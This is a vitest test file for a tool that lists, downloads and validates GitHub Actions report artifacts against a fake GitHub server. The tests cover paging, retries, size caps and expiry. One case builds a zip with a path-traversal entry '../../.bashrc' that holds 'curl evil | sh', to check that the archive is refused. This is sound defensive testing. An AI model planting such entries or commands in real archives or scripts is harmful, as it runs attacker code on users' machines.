import { join } from "node:path";
import { afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import {
  ArtifactError,
  type ArtifactRef,
  downloadArtifactZip,
  listRunArtifacts,
  MAX_ARTIFACT_ZIP_BYTES,
  readReportArtifact,
} from "../../src/github/artifacts.js";
import { createGitHubClient, type GitHubClient } from "../../src/github/client.js";
import { runReport } from "../../src/pipeline.js";
import { parseReport, type Report } from "../../src/report/schema.js";
import { type LocalServer, startServer } from "../intensity/providers/local-server.js";
import { FakeGitHub } from "./fake-github.js";
import { buildZip } from "./zip-writer.js";

const OWNER = "acme";
const NAME = "train";
const FULL = `${OWNER}/${NAME}`;
const REPO = { owner: OWNER, repo: NAME };
const TOKEN = "ghs_artifactsTestToken0123";
const WORKFLOW = 1001;
const ARTIFACT = "gridprint-report";
const example = new URL("../../examples/", import.meta.url).pathname;

let reportJson: string;
let fake: FakeGitHub;
let client: GitHubClient;
let sleeps: number[];
let runId: number;
let extraServer: LocalServer | undefined;

beforeAll(async () => {
  const report = await runReport({
    traces: [join(example, "nvidia-smi-4xA100.csv")],
    format: "auto",
    zone: "GB",
    intensitySource: "file",
    intensityFile: join(example, "gb-intensity-2025-06-03.csv"),
    timezone: "Europe/London",
    timezoneGiven: true,
    emissionFactor: "lifecycle",
    credentials: {},
    estimate: { utilization: 1 },
    budgets: {},
    cwd: example,
    version: "test",
    now: new Date("2025-06-04T00:00:00Z"),
  });
  reportJson = JSON.stringify(report);
});

beforeEach(async () => {
  fake = await FakeGitHub.start({ token: TOKEN, blobRejectsAuthorization: true });
  fake.addRepo({ owner: OWNER, name: NAME });
  fake.addWorkflow(FULL, { id: WORKFLOW, path: ".github/workflows/train.yml", name: "Train" });
  runId = fake.addRun(FULL, {
    workflowId: WORKFLOW,
    headBranch: "main",
    headSha: "a".repeat(40),
    event: "push",
    conclusion: "success",
  });
  sleeps = [];
  client = createGitHubClient({
    token: TOKEN,
    apiUrl: fake.apiUrl,
    version: "test",
    retry: {
      sleep: async (ms) => {
        sleeps.push(ms);
      },
      backoffMs: 1,
    },
  });
});

afterEach(async () => {
  expect(fake.openApiProblems()).toEqual([]);
  await fake.close();
  await extraServer?.close();
  extraServer = undefined;
});

const reportZip = (text = reportJson, name = "gridprint-report.json") =>
  buildZip([{ name, data: Buffer.from(text) }]);

/** Adds an artifact to the run and returns it as listRunArtifacts sees it. */
async function artifact(zip: Buffer, name = ARTIFACT, expired = false): Promise<ArtifactRef> {
  const id = fake.addArtifact(FULL, runId, { name, zip, expired });
  const found = (await listRunArtifacts(client, REPO, runId, { name })).find((a) => a.id === id);
  if (!found) throw new Error(`artifact ${id} not listed`);
  return found;
}

async function artifactError(p: Promise<unknown>): Promise<ArtifactError> {
  const e = await p.then(
    () => undefined,
    (error: unknown) => error,
  );
  expect(e).toBeInstanceOf(ArtifactError);
  return e as ArtifactError;
}

const apiZipRequests = () => fake.requests.filter((r) => r.host === "api" && r.path.endsWith("/zip"));
const blobRequests = () => fake.requests.filter((r) => r.host === "blob");

describe("listRunArtifacts", () => {
  it("reads every page beyond 100 artifacts and keeps those whose name has the prefix", async () => {
    const zip = Buffer.from("tiny");
    const wanted = new Set<number>();
    for (let i = 0; i < 150; i++) {
      const name = i % 5 === 0 ? `logs-${i}` : `gridprint-report-node-${i}`;
      const id = fake.addArtifact(FULL, runId, { name, zip, expired: i === 7 });
      if (!name.startsWith("logs-")) wanted.add(id);
    }
    const found = await listRunArtifacts(client, REPO, runId, { prefix: "gridprint-report-" });
    expect(found).toHaveLength(120);
    expect(new Set(found.map((a) => a.id))).toEqual(wanted);
    expect(found.every((a) => a.name.startsWith("gridprint-report-") && a.runId === runId)).toBe(true);
    expect(found.find((a) => a.name === "gridprint-report-node-7")?.expired).toBe(true);
    expect(found.find((a) => a.name === "gridprint-report-node-8")).toMatchObject({
      expired: false,
      sizeInBytes: 4,
    });

    const listing = fake.requests.filter((r) => r.path.endsWith(`/runs/${runId}/artifacts`));
    expect(listing.map((r) => new URL(r.url, fake.apiUrl).searchParams.get("page"))).toEqual(["1", "2"]);
    expect(listing.every((r) => new URL(r.url, fake.apiUrl).searchParams.get("per_page") === "100")).toBe(
      true,
    );
    expect(listing.every((r) => !new URL(r.url, fake.apiUrl).searchParams.has("name"))).toBe(true);
  });

  it("asks for one more page after exactly 100, and stops at the empty one", async () => {
    for (let i = 0; i < 100; i++) fake.addArtifact(FULL, runId, { name: `a-${i}`, zip: Buffer.from("x") });
    expect(await listRunArtifacts(client, REPO, runId)).toHaveLength(100);
    expect(fake.requests.filter((r) => r.path.endsWith("/artifacts"))).toHaveLength(2);
  });

  it("passes an exact name to the API", async () => {
    fake.addArtifact(FULL, runId, { name: ARTIFACT, zip: Buffer.from("x") });
    fake.addArtifact(FULL, runId, { name: `${ARTIFACT}-node-1`, zip: Buffer.from("y") });
    const found = await listRunArtifacts(client, REPO, runId, { name: ARTIFACT });
    expect(found.map((a) => a.name)).toEqual([ARTIFACT]);
    const [request] = fake.requests;
    expect(new URL(request?.url ?? "", fake.apiUrl).searchParams.get("name")).toBe(ARTIFACT);
    expect(request?.headers.authorization).toBe(`token ${TOKEN}`);
  });

  it("gives an empty list for a run without artifacts, after one request", async () => {
    expect(await listRunArtifacts(client, REPO, runId)).toEqual([]);
    expect(fake.requests).toHaveLength(1);
  });

  it("retries a 5xx on a page", async () => {
    fake.addArtifact(FULL, runId, { name: ARTIFACT, zip: Buffer.from("x") });
    fake.fault((r) => r.path.endsWith("/artifacts"), { status: 502, body: "Bad Gateway" });
    expect(await listRunArtifacts(client, REPO, runId)).toHaveLength(1);
    expect(sleeps).toEqual([1]);
  });
});

describe("downloadArtifactZip", () => {
  it("follows the redirect to the blob host without the token, and returns the zip's bytes", async () => {
    const zip = reportZip();
    const ref = await artifact(zip);
    const bytes = await downloadArtifactZip(client, REPO, ref);
    expect(Buffer.from(bytes).equals(zip)).toBe(true);

    const [api] = apiZipRequests();
    expect(api?.path).toBe(`/repos/${OWNER}/${NAME}/actions/artifacts/${ref.id}/zip`);
    expect(api?.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(api?.headers["x-github-api-version"]).toBe("2022-11-28");
    expect(api?.headers["user-agent"]).toBe("gridprint/test");
    expect(fake.blobDownloads).toEqual([
      expect.objectContaining({ artifactId: ref.id, authorization: undefined, status: 200 }),
    ]);
    expect(blobRequests()[0]?.headers["user-agent"]).toBe("gridprint/test");
  });

  it("refuses an artifact listed above the cap before any request", async () => {
    const ref: ArtifactRef = {
      id: 1,
      name: "huge",
      runId,
      expired: false,
      sizeInBytes: MAX_ARTIFACT_ZIP_BYTES + 1,
    };
    const e = await artifactError(downloadArtifactZip(client, REPO, ref));
    expect(e.message).toBe(
      `artifact "huge" is ${MAX_ARTIFACT_ZIP_BYTES + 1} bytes, more than the ${MAX_ARTIFACT_ZIP_BYTES} a report artifact may be`,
    );
    const small = await artifactError(downloadArtifactZip(client, REPO, { ...ref, sizeInBytes: 101 }, 100));
    expect(small.message).toContain("101 bytes, more than the 100");
    expect(fake.requests).toEqual([]);
  });

  it("refuses a blob larger than maxBytes whose listing understated its size, from its content-length", async () => {
    const zip = reportZip();
    const ref = await artifact(zip);
    const e = await artifactError(downloadArtifactZip(client, REPO, { ...ref, sizeInBytes: 10 }, 100));
    expect(e.message).toBe(`artifact "${ARTIFACT}" is ${zip.length} bytes, more than the 100 allowed`);
    expect(e.status).toBeUndefined();
    expect(blobRequests()).toHaveLength(1); // not retried
  });

  it("stops reading a blob without content-length once it outgrows maxBytes", async () => {
    const endless = 64 * 1024 * 1024;
    let served = 0;
    let hungUp: Promise<boolean> = Promise.resolve(false);
    extraServer = await startServer((_req, res) => {
      hungUp = new Promise((resolve) => {
        const write = async () => {
          res.writeHead(200, { "content-type": "application/zip" }); // chunked: no content-length
          const chunk = Buffer.alloc(64 * 1024, 1);
          while (served < endless && !res.destroyed) {
            served += chunk.length;
            if (!res.write(chunk)) {
              await new Promise<void>((next) => {
                const done = () => {
                  res.off("drain", done);
                  res.off("close", done);
                  next();
                };
                res.on("drain", done);
                res.on("close", done);
              });
            }
          }
          resolve(res.destroyed);
          res.end();
        };
        void write();
      });
    });
    const ref = await artifact(reportZip());
    fake.fault((r) => r.host === "api" && r.path.endsWith("/zip"), {
      status: 302,
      headers: { location: `${extraServer.base}/blob/${ref.id}` },
    });
    const e = await artifactError(downloadArtifactZip(client, REPO, { ...ref, sizeInBytes: 10 }, 1000));
    expect(e.message).toBe(`artifact "${ARTIFACT}" is more than the 1000 bytes allowed`);
    expect(e.status).toBeUndefined();
    expect(extraServer.requests).toHaveLength(1); // not retried
    expect(extraServer.requests[0]?.headers.authorization).toBeUndefined();
    // The client hung up: the server's endless body stopped far short of its end.
    expect(await hungUp).toBe(true);
    expect(served).toBeLessThan(endless);
  });

  it("says an artifact answering 410 has expired, without retrying or touching the blob host", async () => {
    const ref = await artifact(reportZip(), ARTIFACT, true);
    expect(ref.expired).toBe(true);
    const e = await artifactError(downloadArtifactZip(client, REPO, ref));
    expect(e.message).toBe(`artifact "${ARTIFACT}" has expired`);
    expect(e.status).toBe(410);
    expect(apiZipRequests()).toHaveLength(1);
    expect(fake.blobDownloads).toEqual([]);
    expect(sleeps).toEqual([]);
  });

  it("says so when the blob host answers 410", async () => {
    const ref = await artifact(reportZip());
    fake.fault((r) => r.host === "blob", { status: 410, body: "Gone" });
    const e = await artifactError(downloadArtifactZip(client, REPO, ref));
    expect(e.message).toContain("has expired");
    expect(e.status).toBe(410);
  });

  it("retries a blob host answering 5xx twice, from the API request on, and succeeds", async () => {
    const zip = reportZip();
    const ref = await artifact(zip);
    fake.fault((r) => r.host === "blob", { status: 503, body: "Server Busy" }, 2);
    const bytes = await downloadArtifactZip(client, REPO, ref);
    expect(Buffer.from(bytes).equals(zip)).toBe(true);
    expect(sleeps).toEqual([1, 2]);
    expect(apiZipRequests()).toHaveLength(3);
    expect(blobRequests()).toHaveLength(3);
    expect(blobRequests().every((r) => r.headers.authorization === undefined)).toBe(true);
  });

  it("retries a 5xx from the API's zip endpoint", async () => {
    const ref = await artifact(reportZip());
    fake.fault((r) => r.host === "api" && r.path.endsWith("/zip"), {
      status: 500,
      body: { message: "Server Error" },
    });
    await downloadArtifactZip(client, REPO, ref);
    expect(apiZipRequests().map((r) => r.status)).toEqual([500, 302]);
    expect(sleeps).toEqual([1]);
  });

  it("gives up after three 5xx with the last status", async () => {
    const ref = await artifact(reportZip());
    fake.fault((r) => r.host === "blob", { status: 502, body: "Bad Gateway" }, 5);
    const e = await artifactError(downloadArtifactZip(client, REPO, ref));
    expect(e.message).toBe("artifact download answered HTTP 502");
    expect(e.status).toBe(502);
    expect(blobRequests()).toHaveLength(3);
    expect(sleeps).toEqual([1, 2]);
  });

  it("does not retry a 404", async () => {
    const ref = await artifact(reportZip());
    const e = await artifactError(downloadArtifactZip(client, REPO, { ...ref, id: ref.id + 1000 }));
    expect(e.message).toBe(`artifact "${ARTIFACT}" download answered HTTP 404`);
    expect(e.status).toBe(404);
    expect(apiZipRequests()).toHaveLength(1);
  });

  it("refuses a redirect without a Location", async () => {
    const ref = await artifact(reportZip());
    fake.fault((r) => r.host === "api" && r.path.endsWith("/zip"), { status: 302 });
    const e = await artifactError(downloadArtifactZip(client, REPO, ref));
    expect(e.message).toBe("artifact download answered 302 without a Location");
  });

  // A body cut short is a network failure like any other: an ArtifactError, retried.
  it("retries a download whose connection was cut mid-body, and says so when it keeps failing", async () => {
    let cut = 0;
    extraServer = await startServer((_req, res) => {
      cut++;
      res.writeHead(200, { "content-type": "application/zip" });
      res.write(Buffer.alloc(512));
      setTimeout(() => res.socket?.destroy(), 10);
    });
    const ref = await artifact(reportZip());
    const toCut = { status: 302, headers: { location: `${extraServer.base}/blob` } };
    fake.fault((r) => r.host === "api" && r.path.endsWith("/zip"), toCut);
    // Cut once, then the real blob: the retry succeeds.
    const zip = await downloadArtifactZip(client, REPO, ref);
    expect(zip.byteLength).toBeGreaterThan(0);
    expect(cut).toBe(1);
    // Cut every time: an ArtifactError after the bounded attempts.
    fake.fault((r) => r.host === "api" && r.path.endsWith("/zip"), toCut, 10);
    const e = await artifactError(downloadArtifactZip(client, REPO, ref));
    expect(e.message).toMatch(/download interrupted/);
    expect(cut).toBe(4);
  });
});

describe("readReportArtifact", () => {
  it("returns the validated report and the entry it came from", async () => {
    const ref = await artifact(reportZip());
    const { report, entry } = await readReportArtifact(client, REPO, ref);
    expect(entry).toBe("gridprint-report.json");
    const expected: Report = parseReport(JSON.parse(reportJson));
    expect(report).toEqual(expected);
    expect(fake.blobDownloads).toHaveLength(1);
  });

  it("reads report.json too", async () => {
    const ref = await artifact(reportZip(reportJson, "report.json"));
    expect((await readReportArtifact(client, REPO, ref)).entry).toBe("report.json");
  });

  it.each([
    ["invalid JSON", () => reportZip("{ this is not json"), ["gridprint-report.json", "not JSON"]],
    [
      "JSON that is no report",
      () => reportZip(JSON.stringify({ hello: "world" })),
      ["gridprint-report.json", "unsupported report schemaVersion"],
    ],
    [
      "a report with a wrong field",
      () => reportZip(JSON.stringify({ ...JSON.parse(reportJson), hours: "many" })),
      ["not a valid gridprint report", "hours"],
    ],
    [
      "an entry with an unsafe name",
      () =>
        buildZip([
          { name: "gridprint-report.json", data: Buffer.from(reportJson) },
          { name: "../../.bashrc", data: Buffer.from("curl evil | sh") },
        ]),
      ["unsafe name", '"../../.bashrc"', "refusing the whole artifact"],
    ],
    ["bytes that are no zip", () => Buffer.from("PK but not really a zip"), ["not readable"]],
    [
      "a zip without a report",
      () => buildZip([{ name: "notes.txt", data: Buffer.from("hi") }]),
      ["no report"],
    ],
  ])("refuses %s with an ArtifactError naming the artifact", async (_what, zip, parts) => {
    const ref = await artifact(zip());
    const e = await artifactError(readReportArtifact(client, REPO, ref));
    expect(e.message).toMatch(new RegExp(`^artifact "${ARTIFACT}"`));
    for (const part of parts) expect(e.message).toContain(part);
  });

  it("passes download errors through as they are", async () => {
    const ref = await artifact(reportZip(), ARTIFACT, true);
    const e = await artifactError(readReportArtifact(client, REPO, ref));
    expect(e.message).toBe(`artifact "${ARTIFACT}" has expired`);
  });
});
